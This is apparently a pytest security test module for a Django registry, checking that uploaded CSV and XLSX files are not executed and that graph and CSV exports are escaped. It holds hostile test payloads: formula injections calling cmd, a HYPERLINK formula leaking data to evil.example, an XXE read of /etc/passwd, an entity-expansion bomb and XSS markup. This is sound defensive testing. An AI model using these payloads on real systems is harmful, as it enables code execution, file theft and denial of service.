"""API10:2023 Unsafe Consumption of APIs.

The registry consumes the files collectivities upload (CSV, XLSX) and hands its data
on to other tools (Gephi, yEd, browsers, spreadsheets). Uploaded content stays data:
formulas are neither evaluated nor executed, XML entities in a workbook are not
resolved, an oversized workbook is refused; what goes out is escaped for its format
(SVG, GEXF, GraphML) and spreadsheet output does not turn names into formulas.
"""

from __future__ import annotations

import io
import xml.etree.ElementTree as ET
import zipfile
from io import StringIO

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse

from registry.importers import spreadsheet
from registry.models import Actor
from tests.factories import BodyFactory
from tests.security.conftest import assert_problem

pytestmark = pytest.mark.django_db

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=HYPERLINK("http://evil.example","x")',
]
MARKUP = '<script>alert(1)</script>"><svg onload=alert(2)>&amp;]]>'


def upload(name: str, content: bytes) -> dict:
    f = io.BytesIO(content)
    f.name = name
    return {"file": f}


def xlsx(rows) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(list(row))
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def test_api10_csv_formulas_are_stored_as_plain_text(world):
    lines = ["schéma;identifiant;nom;type;catégorie;territoire"]
    lines += [
        f"rna;W9F{i};{name.replace(';', ',')};organisation;association;{world.inside.commune.pk}"
        for i, name in enumerate(FORMULAS)
    ]
    response = world.client.post(
        "/api/actors/import/", upload("acteurs.csv", "\n".join(lines).encode())
    )
    assert response.status_code == 200, response.content
    stored = set(
        Actor.objects.filter(identifiers__value__startswith="W9F").values_list("name", flat=True)
    )
    assert stored == {name.replace(";", ",") for name in FORMULAS}
    listed = world.client.get("/api/actors/", {"q": "cmd", "limit": 100}).json()
    assert {row["name"] for row in listed["results"]} >= {FORMULAS[0]}


def test_api10_xlsx_formulas_are_never_evaluated(world):
    data = xlsx(
        [
            ["scheme", "identifier", "name", "kind", "category", "territory", "description"],
            [
                "rna",
                "W9X1",
                "=1+1",
                "organization",
                "association",
                world.inside.commune.pk,
                '=HYPERLINK("http://evil.example","x")',
            ],
        ]
    )
    response = world.client.post("/api/actors/import/", upload("acteurs.xlsx", data))
    assert response.status_code in (200, 422), response.content
    actor = Actor.objects.filter(identifiers__value="W9X1").first()
    if response.status_code == 422:
        assert actor is None  # refused: the formula's cell has no value of its own
    else:
        assert actor.name in ("=1+1", "") and actor.name != "2"
        assert "evil.example" not in actor.description or actor.description.startswith("=")


def _with_doctype(data: bytes, doctype: str, replace: bytes, by: bytes) -> bytes:
    """The workbook with ``doctype`` prepended to its shared strings and a string replaced."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/sharedStrings.xml":
                head, _sep, rest = content.partition(b"?>")
                content = head + b"?>" + doctype.encode() + rest.replace(replace, by)
            target.writestr(item, content)
    return out.getvalue()


def test_api10_xlsx_external_entities_are_not_resolved(world):
    base = xlsx(
        [
            ["scheme", "identifier", "name", "kind", "category", "territory"],
            ["rna", "W9E1", "PLACEHOLDER", "organization", "association", world.inside.commune.pk],
        ]
    )
    data = _with_doctype(
        base,
        '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        b"PLACEHOLDER",
        b"&xxe;",
    )
    response = world.client.post("/api/actors/import/", upload("acteurs.xlsx", data))
    assert response.status_code in (200, 422), response.content
    assert b"root:" not in response.content
    assert not Actor.objects.filter(name__contains="root:").exists()


def test_api10_xlsx_entity_expansion_is_not_a_bomb(world):
    levels = "".join(
        f'<!ENTITY l{i} "{"&l" + str(i - 1) + ";" if i else "lol"}{("&l" + str(i - 1) + ";") * 9 if i else ""}">'
        for i in range(10)
    )
    base = xlsx(
        [
            ["scheme", "identifier", "name", "kind", "category"],
            ["rna", "W9B1", "PLACEHOLDER", "organization", "association"],
        ]
    )
    data = _with_doctype(base, f"<!DOCTYPE sst [{levels}]>", b"PLACEHOLDER", b"&l9;")
    response = world.client.post("/api/actors/import/", upload("acteurs.xlsx", data))
    assert_problem(response, 422)
    assert len(response.content) < 10_000


def test_api10_an_oversized_workbook_is_refused_without_reading_it_all(world, monkeypatch):
    # Each <row> element the sheet reader parses goes through _row_number once.
    from registry.importers.spreadsheet import xlsx as reader

    read = []
    real = reader._row_number

    def counting(*args):
        read.append(1)
        return real(*args)

    monkeypatch.setattr(reader, "_row_number", counting)
    rows = [["name"]] + [["x"]] * (spreadsheet.MAX_ROWS * 3)
    response = world.client.post("/api/actors/import/", upload("acteurs.xlsx", xlsx(rows)))
    assert_problem(response, 422)
    assert read, "the sheet reader was not used: this test checks nothing"
    # Reading stops at the bound (blank lines included), not at the end of the sheet.
    assert len(read) <= spreadsheet.MAX_RECORDS + 2, f"{len(read)} rows read"


@pytest.fixture
def marked_up(world):
    """An inside actor and body whose names are markup, with a tie between them."""
    from registry.services import actors as actor_services

    actor = actor_services.actor_create(
        kind="organization",
        category="association",
        name=MARKUP,
        territory=world.inside.commune,
    )
    from tests.factories import MembershipFactory

    body = BodyFactory(name=MARKUP + " conseil", territory=world.inside.commune)
    MembershipFactory(actor=actor, body=body)
    return actor


@pytest.mark.parametrize("fmt", ["svg", "gexf", "graphml"])
def test_api10_graph_exports_escape_names_for_their_format(world, marked_up, fmt):
    url = reverse("analysis-influence-map")
    response = world.client.get(url, {"territory": world.inside.dept.pk, "format": fmt})
    assert response.status_code == 200, response.content[:300]
    root = ET.fromstring(response.content)  # well-formed: nothing broke out of its text
    tags = {element.tag.rsplit("}", 1)[-1] for element in root.iter()}
    assert "script" not in tags
    for element in root.iter():
        assert not any(name.lower().startswith("on") for name in element.attrib), element.attrib
    texts = " ".join(
        [e.text or "" for e in root.iter()] + [v for e in root.iter() for v in e.attrib.values()]
    )
    if fmt != "svg":  # the SVG shows the most central labels only
        assert MARKUP in texts
    assert response["X-Content-Type-Options"] == "nosniff"


def test_api10_renewal_report_csv_does_not_turn_names_into_formulas(world):
    BodyFactory(name=FORMULAS[0], territory=world.inside.commune)
    out = StringIO()
    call_command(
        "renewal_report", "--territory", str(world.inside.dept.pk), "--format", "csv", stdout=out
    )
    cells = [cell for line in out.getvalue().splitlines()[1:] for cell in line.split(",")]
    assert any("cmd|" in cell for cell in cells)
    assert not any(cell.lstrip('"').startswith(("=", "+", "@")) for cell in cells), cells
